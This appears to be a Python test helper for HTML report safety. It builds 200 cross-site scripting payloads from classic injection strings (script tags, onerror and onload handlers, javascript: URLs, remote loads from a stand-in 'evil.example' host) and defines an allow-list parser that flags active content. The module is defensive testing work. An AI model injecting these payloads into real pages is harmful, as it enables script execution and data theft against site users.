"""Texts that would act in a page if it let them, and what acts in a page: for reports in HTML (H11 of reliability).

Payloads are classic kinds of cross-site scripting (OWASP's cheat sheet names the kinds) in several wrappings. `active`
reads a page with Python's HTML parser, which is stricter than a browser's about none of these; what it finds is
counted, by an allow-list, so that a new kind of element counts too.
"""
# ruff: noqa: E501

from __future__ import annotations

import itertools
import re
from collections.abc import Collection
from html.parser import HTMLParser

_CORES = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>", "<body onload=alert(1)>", "<form action=//evil.example><input></form>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>", "<style>@import'//evil'</style>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<details open ontoggle=alert(1)>", "<video src=//evil.example autoplay>",
    "<button formaction=javascript:alert(1)>x</button>", "<template><img src=x onerror=alert(1)></template>",
    "<foreignObject><body onload=alert(1)></foreignObject>", "<animate attributeName=href values=javascript:alert(1) />",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip
_WRAPS = (
    "{}", "\"'>{}", "</td></table>{}", "--></style></title>{}", "]]>{}<!--", "{}\u2028\x00",
    "<<{}", "</svg></figcaption>{}",
)  # fmt: skip
# What a report's page consists of; everything else is counted as active.
_PLAIN = frozenset(
    "html head meta title style body main h1 h2 h3 h4 h5 h6 aside p ul li table caption thead tbody tr th td sup a "
    "figure figcaption section q svg g path line polyline polygon circle ellipse rect text tspan desc".split()
)  # fmt: skip
_HARMLESS = frozenset(
    "lang charset http-equiv content name scope id href rel xmlns role width height viewbox x y x1 y1 x2 y2 cx cy r rx "
    "ry dx dy d points fill fill-opacity stroke stroke-width stroke-dasharray stroke-linecap stroke-linejoin "
    "stroke-opacity opacity font-size font-family font-weight font-style text-anchor dominant-baseline aria-label "
    "transform preserveaspectratio".split()
)  # fmt: skip
_OWN_META = re.compile(r"Content-Security-Policy\Z", re.I)


def payloads() -> list[str]:
    """200 of them."""
    return [wrap.format(core) for core, wrap in itertools.product(_CORES, _WRAPS)]


def active(page: str, *, links: Collection[str] = ()) -> list[str]:
    """Elements, attributes and addresses of a page that act or load. links: addresses that may be linked to."""
    found = _Finder(frozenset(links))
    found.feed(page)
    found.close()
    return found.found


class _Finder(HTMLParser):
    def __init__(self, links: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self._links, self.found, self._styles = links, [], 0  # type: tuple[frozenset[str], list[str], int]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _PLAIN:
            self.found.append(f"<{tag}>")
        self._styles += tag == "style"
        if self._styles > 1:
            self.found.append("<style> again")
        for name, value in attrs:
            if name not in _HARMLESS:
                self.found.append(f"{tag} {name}=")
            elif (
                (name == "http-equiv" and not _OWN_META.match(value or ""))
                or (name == "href" and not (value or "").startswith("#") and value not in self._links)
                or (re.search(r"url\s*\(|javascript:|data:", value or "", re.I) and name != "href")
            ):
                self.found.append(f"{tag} {name}={value}")
